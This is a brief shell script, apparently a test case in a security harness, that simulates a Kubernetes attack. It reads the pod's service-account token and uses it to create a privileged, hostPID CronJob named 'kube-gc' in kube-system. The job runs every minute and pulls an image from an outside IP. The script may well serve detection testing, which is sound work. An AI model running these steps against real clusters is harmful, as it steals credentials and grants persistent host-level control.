#!/bin/sh
. /opt/case/case.sh

token=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
cat >/tmp/job.json <<'END'
{"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "kube-gc"}, "spec": {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": {"spec": {"hostPID": true, "restartPolicy": "Never", "containers": [{"name": "gc", "image": "203.0.113.10/gc", "securityContext": {"privileged": true}}]}}}}}}
END
curl -sk -X POST -H "Authorization: Bearer $token" -H 'Content-Type: application/json' --data-binary @/tmp/job.json http://10.77.0.1:6443/apis/batch/v1/namespaces/kube-system/cronjobs | grep -q ok
took_place
